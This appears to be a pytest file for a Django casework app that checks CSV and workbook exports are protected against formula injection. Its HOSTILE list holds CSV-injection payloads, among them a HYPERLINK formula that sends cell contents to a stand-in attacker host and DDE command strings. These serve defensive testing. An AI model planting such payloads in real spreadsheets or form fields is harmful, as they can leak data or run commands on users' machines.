"""CSV injection (issue 11, finding 6): no export may hand a spreadsheet a formula.

Each export is walked with hostile names, reasons and agency names, and every cell of the file
it writes is checked; a last test fails when a module writes CSV or a workbook without going
through `core.csvsafe`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from django.urls import reverse

from continuum.core import csvsafe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str, *, expect: list[str]) -> None:
    cells = _cells(text)
    bad = [c for c in cells if FORMULA_START.match(c)]
    assert not bad, f"cells a spreadsheet would run: {bad}"
    for value in expect:  # the hostile value is there, neutralised, not dropped
        assert "'" + value in cells, value


# --- the helper ----------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_quotes_formula_leading_text(value):
    assert csvsafe.safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Smith", "O'Neil", "Jean-Paul", "", " =not first", 42, -3, 1.5, None, dt.date.today()]
)
def test_safe_cell_leaves_everything_else_alone(value):
    assert csvsafe.safe_cell(value) == value


def test_writer_and_dict_writer_neutralise_every_column():
    out = io.StringIO()
    w = csvsafe.writer(out)
    w.writerow(["header"] * 2)
    w.writerows([[v, v] for v in HOSTILE])
    d = csvsafe.dict_writer(out, fieldnames=["a", "b"])
    d.writerows([{"a": v, "b": 7} for v in HOSTILE])
    assert not [c for c in _cells(out.getvalue()) if FORMULA_START.match(c)]


def test_safe_frame_neutralises_text_columns_only():
    frame = pd.DataFrame(
        {"name": [*HOSTILE, "Smith", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8]},
    )
    safe = csvsafe.safe_frame(frame)
    assert list(safe["name"][: len(HOSTILE)]) == ["'" + v for v in HOSTILE]
    assert safe["name"].iloc[-2] == "Smith" and safe["name"].iloc[-1] is None
    assert list(safe["n"]) == list(frame["n"])
    assert list(frame["name"][:1]) == HOSTILE[:1]  # the caller's frame is not changed


# --- every export ---------------------------------------------------------------------------


@pytest.fixture
def hostile_family(family, involved_practitioner, agencies):
    """The Smith family with a hostile name, agency name and chronology event."""
    from continuum.casework import services as casework_services
    from continuum.people.models import Person

    Person.objects.filter(pk=family.twin1.pk).update(given_name=HOSTILE[0], known_as="")
    agencies.hub.name = HOSTILE[3]
    agencies.hub.save(update_fields=["name"])
    casework_services.chronology_add(
        actor=involved_practitioner,
        household=family.household,
        date=dt.date.today() - dt.timedelta(days=3),
        kind=_manual_kind(),
        summary=HOSTILE[1],
        person=Person.objects.get(pk=family.twin1.pk),
    )
    return family


def _manual_kind() -> str:
    from continuum.casework.services.records import MANUAL_CHRONOLOGY_KINDS

    return sorted(MANUAL_CHRONOLOGY_KINDS)[0]


@pytest.mark.django_db
def test_household_chronology_csv(hostile_family, involved_practitioner, login):
    url = reverse("casework:household_chronology", args=[hostile_family.household.pk])
    response = login(involved_practitioner).get(url + "?format=csv")
    assert response.status_code == 200
    _assert_no_formula(response.content.decode(), expect=[HOSTILE[1], HOSTILE[3]])
    assert any(c.startswith("'" + HOSTILE[0]) for c in _cells(response.content.decode()))


@pytest.mark.django_db
def test_person_chronology_csv(hostile_family, involved_practitioner, login):
    url = reverse("casework:person_chronology", args=[hostile_family.twin1.pk])
    response = login(involved_practitioner).get(url + "?format=csv")
    assert response.status_code == 200
    _assert_no_formula(response.content.decode(), expect=[HOSTILE[1], HOSTILE[3]])


@pytest.mark.django_db
def test_referral_register_csv(family, involved_practitioner, agencies, analyst, login):
    from django.utils import timezone

    from continuum.referrals.models import Referral, Status

    agencies.hub.name = HOSTILE[2]
    agencies.hub.save(update_fields=["name"])
    Referral.objects.create(
        reference="=X1",
        child=family.twin1,
        referrer=involved_practitioner,
        referrer_agency=agencies.hub,
        destination_agency=agencies.front_door,
        source="3B",
        status=Status.WITHDRAWN,
        withdrawn_reason=HOSTILE[3],
        submitted_at=timezone.now(),
    )
    response = login(analyst).get(reverse("referrals:register_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    _assert_no_formula(text, expect=[HOSTILE[2], HOSTILE[3], "=X1"])


def test_import_errors_csv():
    from continuum.linkage.services.imports import import_errors_csv

    job = SimpleNamespace(
        row_errors=[{"row": 2, "field": HOSTILE[0], "reason": f"Not a date: {HOSTILE[1]}"}]
    )
    text = import_errors_csv(job)
    _assert_no_formula(text, expect=[HOSTILE[0]])


def test_continuum_link_out_and_review_out(tmp_path: Path):
    from continuum.linkage.engine import synthetic
    from continuum.linkage.engine.cli import main as link_main

    paths = synthetic.write_dataset(synthetic.generate(300, seed=4), tmp_path / "in")
    first = paths[0]
    rows = list(csv.DictReader(first.open(encoding="utf-8")))
    rows[0]["record_id"] = HOSTILE[0]
    rows[1]["given_name"] = HOSTILE[3]
    with first.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))  # an input file, not an export
        w.writeheader()
        w.writerows(rows)
    out, review = tmp_path / "clusters.csv", tmp_path / "review.csv"
    code = link_main([*map(str, paths), "--out", str(out), "--review-out", str(review)])
    assert code == 0
    _assert_no_formula(out.read_text(encoding="utf-8"), expect=[HOSTILE[0]])
    _assert_no_formula(review.read_text(encoding="utf-8"), expect=[])


# --- no export can forget it ------------------------------------------------------------------

SRC = Path(__file__).resolve().parents[3]
# Modules that write CSV files that are not exports of the record: synthetic person-extract
# *input* files for the demo, the benchmarks and the engine's tests (neutralising them would
# change the data the linkage engine is meant to read back).
NOT_EXPORTS = {
    "continuum/linkage/engine/layout.py",  # write_extract: the person-extract v1 input format
    "continuum/linkage/engine/synthetic.py",  # synthetic truth file for benchmarks
    "continuum/linkage/demo.py",  # the demo's agency extracts, imported by the demo seed
}
DIRECT_WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
FRAME_WRITERS = re.compile(r"\.write_csv\s*\(|\.to_csv\s*\(")
WORKBOOK = re.compile(r"\bWorkbook\s*\(|xlsxwriter")


def test_no_module_writes_csv_or_xlsx_without_the_helper():
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        if "/tests/" in rel or rel == "continuum/core/csvsafe.py" or rel in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        for n, line in enumerate(text.splitlines(), start=1):
            if DIRECT_WRITERS.search(line):
                offenders.append(f"{rel}:{n}: {line.strip()}")
            elif FRAME_WRITERS.search(line) and "safe_frame(" not in text:
                offenders.append(f"{rel}:{n}: {line.strip()} (pass the frame through safe_frame)")
        if WORKBOOK.search(text) and "csvsafe" not in text:
            offenders.append(f"{rel}: writes a workbook without core.csvsafe.safe_cell")
    assert not offenders, "use continuum.core.csvsafe:\n" + "\n".join(offenders)
